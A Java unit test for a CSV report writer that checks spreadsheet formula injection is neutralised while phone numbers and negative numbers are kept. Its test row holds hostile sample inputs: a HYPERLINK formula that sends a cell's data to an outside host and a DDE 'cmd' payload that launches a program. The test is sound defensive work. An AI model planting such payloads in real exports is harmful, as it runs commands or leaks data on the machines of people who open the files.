package io.capconduit.reports;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class CsvSheetWriterTests {

    @Test
    void textASpreadsheetWouldRunAsAFormulaIsNeutralisedButNumbersAndPhonesAreNot() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (CsvSheetWriter csv = new CsvSheetWriter(bytes)) {
            csv.startSheet("Calls", List.of());
            csv.row("=1+1", "@SUM(A1)", "+HYPERLINK(\"http://x/?\"&A2,\"open\")", "-2+3+cmd|' /C calc'!A0", "\tx",
                    "+18005550101", "-5", "+1 (800) 555-0101", "plain", 42);
        }
        String line = bytes.toString(StandardCharsets.UTF_8).split("\r\n")[1];

        assertThat(line).isEqualTo("'=1+1,'@SUM(A1),\"'+HYPERLINK(\"\"http://x/?\"\"&A2,\"\"open\"\")\","
                + "'-2+3+cmd|' /C calc'!A0,'\tx,+18005550101,-5,+1 (800) 555-0101,plain,42");
    }
}
